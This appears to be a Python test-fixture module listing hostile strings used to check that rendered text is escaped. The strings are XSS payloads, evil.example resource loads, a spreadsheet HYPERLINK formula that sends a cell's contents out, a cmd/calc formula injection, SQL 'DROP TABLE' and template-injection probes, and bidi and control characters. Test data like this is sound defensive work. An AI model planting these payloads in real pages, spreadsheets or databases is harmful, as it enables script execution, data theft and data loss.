"""Texts that are code somewhere: each has to be text wherever it is shown, saved or printed."""

from __future__ import annotations

HOSTILE = (
    "<script>window.hit=true</script><img src=x onerror=window.hit=true><svg onload=window.hit=true>",
    '"><iframe srcdoc="<script>parent.hit=true</script>"></iframe><a href="javascript:window.hit=true">go</a>',
    "</style></title></textarea></script><script>window.hit=true;alert(1)</script><!--",
    "<link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/b.png>",
    "[go](javascript:alert(1)) ![i](https://evil.example/c.png) **bold** _it_ `code` # h1 | a | b |",
    r"$\href{javascript:alert(1)}{x}$ \(x^2\) \[y\] $$z$$ and $84 million or $7",
    ":smile: :material/home: :red[red] :blue-background[b] :streamlit:",
    '=HYPERLINK("https://evil.example/"&A1,"x")',
    "+1+cmd|' /C calc'!A0;=1+1",
    "\u202eevil\u202c \u2066x\u2069 \u200fשלום 👩‍👩‍👧 e\u0301",
    "\x00\x07\x1b[31m\x7f\x9b2J\ud800\ufffe\uffff",
    "{{7*7}} ${7*7} %s {0} <%= 7*7 %> '; DROP TABLE answers;--",
)
"""Markup of every kind that is read somewhere here, formulas, marks of direction, and codes that are no characters."""
SOME = HOSTILE[0] + " " + HOSTILE[5] + " " + HOSTILE[6] + " " + HOSTILE[9] + HOSTILE[10]
"""Several of them in one text."""
